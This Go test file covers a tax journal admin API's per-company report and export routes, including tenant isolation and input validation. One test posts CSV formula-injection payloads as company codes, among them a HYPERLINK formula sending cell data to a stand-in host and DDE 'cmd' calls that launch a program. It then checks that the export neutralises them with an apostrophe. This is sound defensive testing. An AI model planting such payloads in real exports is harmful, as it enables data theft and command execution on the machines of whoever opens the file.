package journaladmin_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/levytax/levy/api/journaladmin"
	"github.com/levytax/levy/api/oauth"
	"github.com/levytax/levy/auth/authtest"
	"github.com/levytax/levy/civil"
	"github.com/levytax/levy/journal"
	"github.com/levytax/levy/journal/journaltest"
)

// postCompanies posts the calculations of journaltest.Companies through
// the API with token, and the reversal that follows them.
func (s *server) postCompanies(t *testing.T, token string) {
	t.Helper()
	for _, c := range journaltest.Companies() {
		if resp, b := s.send(t, "POST", "/api/v2"+c.Path, token, string(c.Body)); resp.StatusCode != 200 {
			t.Fatalf("posting %s: %d %s", c.ID, resp.StatusCode, b)
		}
	}
	rv := journaltest.CompanyReversal
	body := fmt.Sprintf(`{"data":{"transactionId":%q,"postingDate":%q}}`, rv.ID, rv.PostingDate)
	if resp, b := s.send(t, "POST", "/api/v2/transactions/"+rv.Of+"/reversal", token, body); resp.StatusCode != 200 {
		t.Fatalf("reversing %s: %d %s", rv.Of, resp.StatusCode, b)
	}
}

// TestJournalReportCompany asks the report route of a tenant with two
// companies for each company's report (?company=EAST, ?company=WEST,
// and ?company= for the transactions stored without a company code)
// over real HTTP: each is the one the journal gives in-process, and the
// report without the parameter has every company with its subtotals. A
// company parameter that is no company code, or given twice, is refused
// with 400 naming company.
func TestJournalReportCompany(t *testing.T) {
	s := newServer(t)
	apiToken := authtest.Token(t, s.iss, "acme", oauth.DefaultAudience)
	admin := authtest.Token(t, s.iss, "acme", oauth.DefaultAdminAudience)
	s.postCompanies(t, apiToken)
	ctx := context.Background()
	from, to := civil.MustParse("2026-06-01"), civil.MustParse("2026-06-30")

	report := func(query string) journal.Report {
		t.Helper()
		resp, body := s.send(t, "GET", "/admin/v1/journal/report?from=2026-06-01&to=2026-06-30"+query, admin, "")
		if resp.StatusCode != 200 {
			t.Fatalf("report%s: %d %s", query, resp.StatusCode, body)
		}
		var got struct {
			Data journal.Report `json:"data"`
		}
		if err := json.Unmarshal(body, &got); err != nil {
			t.Fatal(err)
		}
		return got.Data
	}
	for _, c := range []struct {
		company string
		txs     int
	}{{"EAST", 3}, {"WEST", 5}, {"", 1}, {"NORTH", 0}} {
		got := report("&company=" + url.QueryEscape(c.company))
		want, err := journal.SummarizeCompany(ctx, s.store, "acme", c.company, from, to)
		if err != nil {
			t.Fatal(err)
		}
		gotJSON, _ := json.Marshal(got)
		wantJSON, _ := json.Marshal(want)
		if !bytes.Equal(gotJSON, wantJSON) || got.Company == nil || *got.Company != c.company || got.Transactions != c.txs {
			t.Errorf("company %q over HTTP:\n%s\nin-process:\n%s", c.company, gotJSON, wantJSON)
		}
	}
	all := report("")
	if all.Company != nil || all.Transactions != 9 || len(all.Companies) != 3 {
		t.Errorf("the report of every company: company %v, %d transactions, %d subtotals; want none, 9, 3", all.Company, all.Transactions, len(all.Companies))
	}

	for _, c := range []struct {
		name, path, target, message string
	}{
		{"a company code too long", "/admin/v1/journal/report?company=" + strings.Repeat("X", journal.MaxCompanyLength+1), "company", "at most 40"},
		{"a line break", "/admin/v1/journal/report?company=EA%0AST", "company", "control characters"},
		{"a bidirectional override", "/admin/v1/journal/report?company=EAST%E2%80%AE", "company", "bidirectional"},
		{"not UTF-8", "/admin/v1/journal/report?company=%FF", "company", "UTF-8"},
		{"a company twice", "/admin/v1/journal/report?company=EAST&company=WEST", "company", "once"},
	} {
		resp, body := s.send(t, "GET", c.path, admin, "")
		var e struct {
			Errors []struct{ Code, Message, Target string } `json:"errors"`
		}
		if err := json.Unmarshal(body, &e); err != nil || resp.StatusCode != 400 || len(e.Errors) == 0 ||
			e.Errors[0].Target != c.target || !strings.Contains(e.Errors[0].Message, c.message) {
			t.Errorf("%s: %d %s; want 400 naming %q with %q", c.name, resp.StatusCode, body, c.target, c.message)
		}
	}
}

// TestJournalExportCompanyFormulas posts, through the API, a sale, an
// accrual and an asset movement whose company codes (seller.company,
// buyer.company, owner.company) are spreadsheet formulas: the wire
// format lets them through, as they are printable text. The CSV export's
// company column holds each one behind an apostrophe, so that a
// spreadsheet program shows it as text and runs nothing; the report of
// each such company still finds its transaction. Another tenant's export
// has none of them, and a company code holding a control character is
// refused naming the field that carries it.
func TestJournalExportCompanyFormulas(t *testing.T) {
	s := newServer(t)
	apiToken := authtest.Token(t, s.iss, "acme", oauth.DefaultAudience)
	admin := authtest.Token(t, s.iss, "acme", oauth.DefaultAdminAudience)
	other := authtest.Token(t, s.iss, "beta", oauth.DefaultAdminAudience)
	calcs := journaltest.Companies()
	byID := map[string]journaltest.Calc{}
	for _, c := range calcs {
		byID[c.ID] = c
	}
	attacks := []struct{ id, old, company string }{
		{"S-EAST-CA", `"company":"EAST"`, `=HYPERLINK("http://ev.il/?"&A1)`},
		{"P-EAST-WA", `"company":"EAST"`, `+cmd|' /C calc'!A0`},
		{"O-WEST-MN", `"company":"WEST"`, `@SUM(1+1)*cmd|' /C calc'!A0`},
		{"S-WEST-CA", `"company":"WEST"`, `-2+3`},
	}
	for _, a := range attacks {
		enc, err := json.Marshal(a.company)
		if err != nil {
			t.Fatal(err)
		}
		c := byID[a.id]
		body := strings.Replace(string(c.Body), a.old, `"company":`+string(enc), 1)
		if body == string(c.Body) {
			t.Fatalf("%s has no %s", a.id, a.old)
		}
		if resp, b := s.send(t, "POST", "/api/v2"+c.Path, apiToken, body); resp.StatusCode != 200 {
			t.Fatalf("posting %s of company %q: %d %s", a.id, a.company, resp.StatusCode, b)
		}
	}

	resp, body := s.send(t, "GET", "/admin/v1/journal/export?format=csv&from=2026-06-01&to=2026-06-30", admin, "")
	if resp.StatusCode != 200 {
		t.Fatalf("export: %d %s", resp.StatusCode, body)
	}
	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil || len(recs) < 2 {
		t.Fatalf("export: %v\n%s", err, body)
	}
	col := slices.Index(recs[0], "company")
	idCol := slices.Index(recs[0], "transactionId")
	if col < 0 || idCol < 0 {
		t.Fatalf("export header %v", recs[0])
	}
	seen := map[string]bool{}
	for _, rec := range recs[1:] {
		for _, a := range attacks {
			if rec[idCol] != a.id {
				continue
			}
			seen[a.id] = true
			if rec[col] != "'"+a.company {
				t.Errorf("CSV company cell of %s: %q, want %q", a.id, rec[col], "'"+a.company)
			}
		}
		if c := rec[col]; c != "" && strings.ContainsAny(c[:1], "=+-@") {
			t.Errorf("CSV row of %s: company cell %q starts a formula", rec[idCol], c)
		}
	}
	for _, a := range attacks {
		if !seen[a.id] {
			t.Errorf("the export has no row of %s", a.id)
		}
		resp, body := s.send(t, "GET", "/admin/v1/journal/report?from=2026-06-01&to=2026-06-30&company="+url.QueryEscape(a.company), admin, "")
		var got struct{ Data journal.Report }
		if err := json.Unmarshal(body, &got); err != nil || resp.StatusCode != 200 || got.Data.Transactions != 1 ||
			got.Data.Company == nil || *got.Data.Company != a.company {
			t.Errorf("report of company %q: %d %s", a.company, resp.StatusCode, body)
		}
	}

	// Another tenant's admin exports its own journal: none of acme's rows.
	resp, body = s.send(t, "GET", "/admin/v1/journal/export?format=csv&from=2026-06-01&to=2026-06-30", other, "")
	if resp.StatusCode != 200 || bytes.Contains(body, []byte("HYPERLINK")) || bytes.Count(body, []byte("\n")) != 1 {
		t.Errorf("beta's export: %d %s", resp.StatusCode, body)
	}

	// A control character in a company code is refused on each party.
	for _, c := range []struct{ id, old, field string }{
		{"S-EAST-WA", `"company":"EAST"`, "seller.company"},
		{"P-EAST-WA", `"company":"EAST"`, "buyer.company"},
		{"O-WEST-MN", `"company":"WEST"`, "owner.company"},
	} {
		calc := byID[c.id]
		body := strings.Replace(string(calc.Body), c.old, `"company":"EA\u000d=1+1"`, 1)
		body = strings.Replace(body, `"transactionId":"`+c.id+`"`, `"transactionId":"`+c.id+`-CTL"`, 1)
		resp, b := s.send(t, "POST", "/api/v2"+calc.Path, apiToken, body)
		if resp.StatusCode != 400 || !bytes.Contains(b, []byte(c.field)) {
			t.Errorf("%s with a carriage return in its company: %d %s; want 400 naming %s", c.id, resp.StatusCode, b, c.field)
		}
	}
}

// TestJournalExportCompany asks the export route of a tenant with two
// companies for each company's transactions (?company=EAST, WEST, a code
// without transactions, and company= for those stored without a code),
// as JSON lines and as CSV, over real HTTP: each answer is, byte for
// byte, the export the journal gives in-process for that company, every
// row carries the company asked for, and the trailer counts that
// company's transactions only. Without the parameter the export has
// every company. A company that is no company code, or given twice, is
// refused with 400 naming company before anything is streamed. Another
// tenant's admin exports only its own tenant, whatever company it names;
// the operator names the tenant.
func TestJournalExportCompany(t *testing.T) {
	s := newServer(t)
	apiToken := authtest.Token(t, s.iss, "acme", oauth.DefaultAudience)
	admin := authtest.Token(t, s.iss, "acme", oauth.DefaultAdminAudience)
	beta := authtest.Token(t, s.iss, "beta", oauth.DefaultAdminAudience)
	operator := authtest.Token(t, s.iss, "ops", oauth.DefaultOperatorAudience)
	s.postCompanies(t, apiToken)
	ctx := context.Background()
	from, to := civil.MustParse("2026-06-01"), civil.MustParse("2026-06-30")
	const period = "/admin/v1/journal/export?from=2026-06-01&to=2026-06-30"

	// export asks for an export with token and checks that it is whole,
	// returning its body and its count.
	export := func(token, query string) ([]byte, int) {
		t.Helper()
		resp, body := s.send(t, "GET", period+query, token, "")
		if resp.StatusCode != 200 {
			t.Fatalf("export%s: %d %s", query, resp.StatusCode, body)
		}
		if e := resp.Trailer.Get(journaladmin.TrailerError); e != "" {
			t.Fatalf("export%s: %s", query, e)
		}
		n, err := strconv.Atoi(resp.Trailer.Get(journaladmin.TrailerCount))
		if err != nil {
			t.Fatalf("export%s: trailer %q: %v", query, resp.Trailer.Get(journaladmin.TrailerCount), err)
		}
		return body, n
	}

	var whole bytes.Buffer
	all, err := journal.Export(ctx, s.store, "acme", from, to, journal.JSONLines, &whole, nil)
	if err != nil {
		t.Fatal(err)
	}
	if body, n := export(admin, ""); n != all || n != 9 || !bytes.Equal(body, whole.Bytes()) {
		t.Errorf("the export of every company: %d transactions, want %d (9)", n, all)
	}

	for _, c := range []struct {
		company string
		txs     int
	}{{"EAST", 3}, {"WEST", 5}, {"", 1}, {"NORTH", 0}} {
		// The count of a progress bar is that of the export.
		if n, err := journal.CountCompany(ctx, s.store, "acme", c.company, from, to); err != nil || n != c.txs {
			t.Errorf("CountCompany of %q: %d %v, want %d", c.company, n, err, c.txs)
		}
		for _, f := range []journal.Format{journal.JSONLines, journal.CSV} {
			query := "&format=" + string(f) + "&company=" + url.QueryEscape(c.company)
			body, n := export(admin, query)
			var want bytes.Buffer
			wantN, err := journal.ExportCompany(ctx, s.store, "acme", c.company, from, to, f, &want, nil)
			if err != nil {
				t.Fatal(err)
			}
			if n != c.txs || wantN != c.txs || !bytes.Equal(body, want.Bytes()) {
				t.Errorf("company %q as %s: %d transactions (want %d), over HTTP:\n%s\nin-process:\n%s", c.company, f, n, c.txs, body, want.Bytes())
				continue
			}
			if f == journal.JSONLines {
				lines := bytes.Split(bytes.TrimSuffix(body, []byte("\n")), []byte("\n"))
				if len(body) == 0 {
					lines = nil
				}
				if len(lines) != c.txs {
					t.Errorf("company %q: %d lines, want %d", c.company, len(lines), c.txs)
				}
				for _, l := range lines {
					var tx journal.Transaction
					if err := json.Unmarshal(l, &tx); err != nil || tx.Company != c.company {
						t.Errorf("company %q: a line of company %q (%v): %s", c.company, tx.Company, err, l)
					}
				}
				continue
			}
			recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
			if err != nil || len(recs) == 0 {
				t.Fatalf("company %q as CSV: %v\n%s", c.company, err, body)
			}
			col := slices.Index(recs[0], "company")
			ids := map[string]bool{}
			for _, rec := range recs[1:] {
				ids[rec[slices.Index(recs[0], "transactionId")]] = true
				if rec[col] != c.company {
					t.Errorf("company %q as CSV: a row of company %q", c.company, rec[col])
				}
			}
			if len(ids) != c.txs {
				t.Errorf("company %q as CSV: rows of %d transactions, want %d", c.company, len(ids), c.txs)
			}
		}
	}

	// Another tenant's admin: its own tenant only, which has no EAST.
	if body, n := export(beta, "&format=jsonl&company=EAST"); n != 0 || len(body) != 0 {
		t.Errorf("beta's export of EAST: %d transactions\n%s", n, body)
	}
	// The operator names the tenant, and gets that tenant's company.
	var east bytes.Buffer
	if _, err := journal.ExportCompany(ctx, s.store, "acme", "EAST", from, to, journal.CSV, &east, nil); err != nil {
		t.Fatal(err)
	}
	if body, n := export(operator, "&format=csv&company=EAST&tenant=acme"); n != 3 || !bytes.Equal(body, east.Bytes()) {
		t.Errorf("the operator's export of acme's EAST: %d transactions\n%s", n, body)
	}

	for _, c := range []struct {
		name, query, token string
		status             int
		target, message    string
	}{
		{"a company code too long", "&company=" + strings.Repeat("X", journal.MaxCompanyLength+1), admin, 400, "company", "at most 40"},
		{"a line break", "&company=EA%0AST", admin, 400, "company", "control characters"},
		{"a bidirectional override", "&company=EAST%E2%80%AE", admin, 400, "company", "bidirectional"},
		{"not UTF-8", "&company=%FF", admin, 400, "company", "UTF-8"},
		{"a company twice", "&company=EAST&company=WEST", admin, 400, "company", "once"},
		{"a company empty then named", "&company=&company=EAST", admin, 400, "company", "once"},
		{"another tenant's company", "&company=EAST&tenant=acme", beta, 403, "tenant", "own tenant, beta"},
		{"the operator without a tenant", "&company=EAST", operator, 400, "tenant", "names the tenant"},
	} {
		resp, body := s.send(t, "GET", period+c.query, c.token, "")
		var e struct {
			Errors []struct{ Code, Message, Target string } `json:"errors"`
		}
		if err := json.Unmarshal(body, &e); err != nil || resp.StatusCode != c.status || len(e.Errors) == 0 ||
			e.Errors[0].Target != c.target || !strings.Contains(e.Errors[0].Message, c.message) || resp.Trailer.Get(journaladmin.TrailerCount) != "" {
			t.Errorf("%s: %d %s; want %d naming %q with %q", c.name, resp.StatusCode, body, c.status, c.target, c.message)
		}
	}
}
